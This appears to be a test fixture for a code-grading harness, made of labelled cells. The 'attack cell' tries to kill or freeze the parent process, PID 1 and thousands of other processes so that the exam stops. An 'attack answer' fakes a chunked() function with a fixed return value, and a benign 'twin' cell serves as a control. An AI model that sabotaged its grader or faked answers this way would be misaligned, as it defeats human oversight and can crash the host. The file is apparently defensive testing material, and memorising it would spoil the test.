# Kills its parent, its group, every process that it can name, and asks the kernel's process manager to stop the exam.
# earns: 4

# %% attack cell after chunked
import os
import signal

for pid in (os.getppid(), 1, -1, 0, *range(2, 5000)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass


# %% attack answer chunked
def chunked(iterable, size):
    return iter([["a", "b"]])


# %% twin cell first
import os
import signal
import subprocess

child = subprocess.Popen(["sleep", "1000"])
os.kill(child.pid, signal.SIGKILL)
print(child.wait() == -signal.SIGKILL)
